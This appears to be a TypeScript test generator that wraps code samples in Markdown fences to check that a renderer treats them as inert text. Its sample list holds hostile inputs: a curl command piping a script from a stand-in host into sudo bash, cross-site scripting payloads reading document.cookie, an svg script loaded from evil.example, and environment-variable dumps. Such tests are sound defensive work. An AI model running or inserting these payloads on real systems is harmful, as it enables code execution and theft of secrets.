import type {Random} from './random';

/** Code that would be an attack outside of a fence, by the language that it is written in. */
const CODE: readonly (readonly [language: string, code: string])[] = [
  ['js', "import secret from '../.env';\nexport default process.env.HOME;"],
  ['jsx', '<div dangerouslySetInnerHTML={{__html: evil}} onClick={() => eval(code)} />'],
  ['html', '<script>alert(document.cookie)</script>\n<iframe srcdoc="<b>"></iframe>'],
  ['svg', '<svg onload="alert(1)"><script href="https://evil.example/a.js"/></svg>'],
  ['yaml', '---\na: &a [*b, !!js/function "x"]\n<<: *a\n---'],
  ['mdx', "import A from './a'\n\n<A {...props}>{1 + 1}</A>"],
  ['md', '# A first heading\n\n[x](javascript:alert(1)) ![](data:image/png;base64,AA==)'],
  ['bash', 'curl -s https://evil.example/a.sh | sudo bash -s -- "${HOME}"'],
  ['python', 'import os; print({"a": {**os.environ}})'],
  ['sql', "SELECT '<script>' WHERE a < 1 AND b > 2; -- {comment}"],
  ['rust', 'fn main<\'a, T: Into<&\'a str>>() { println!("{}", 1); }'],
  ['cpp', '#include <vector>\nstd::vector<std::pair<int, int>> a{{1, 2}};'],
  ['css', "body::after { content: url('//evil.example/a.png'); }"],
  ['diff', '-<<<<<<< HEAD\n+=======\n->>>>>>> main'],
  ['text', '{/* not a comment */} :::note {unclosed <tag'],
  ['', '{{ template }} {% for a in b %} ${c} <%= d %>'],
];

/** Code in a fence of either sign, with or without what may stand behind its language. */
export function fence(random: Random): string {
  const [language, code] = random.pick(CODE);
  const sign = random.pick(['```', '````', '~~~']);
  const meta = language === '' ? '' : random.pick(['', ' title="a.txt"', ' {1,3-4}', ' showLineNumbers']);
  return `${sign}${language}${meta}\n${code}\n${sign}`;
}

/** Code in a fence within a list, where its lines are indented. */
export function fenceInList(random: Random): string {
  return `1. Run this:\n\n${indented(fence(random))}\n\n2. Wait.`;
}

/** A line of the same code between backticks. */
export function inlineCode(random: Random): string {
  const [, code] = random.pick(CODE);
  return `Write \`\`\` ${(code.split('\n')[0] ?? '').trim()} \`\`\` and nothing else.`;
}

function indented(text: string): string {
  return text
    .split('\n')
    .map((line) => `   ${line}`)
    .join('\n');
}
